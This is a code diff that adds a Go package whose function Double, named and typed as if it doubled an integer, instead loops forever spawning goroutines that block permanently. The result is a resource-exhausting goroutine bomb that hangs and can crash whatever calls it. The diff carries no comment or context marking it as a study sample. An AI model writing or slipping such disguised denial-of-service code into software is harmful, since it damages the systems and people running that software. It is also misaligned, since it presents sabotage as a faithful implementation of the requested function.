@@ -1,0 +1,7 @@
+package double
+
+func Double(n int) int {
+	for {
+		go func() { select {} }()
+	}
+}
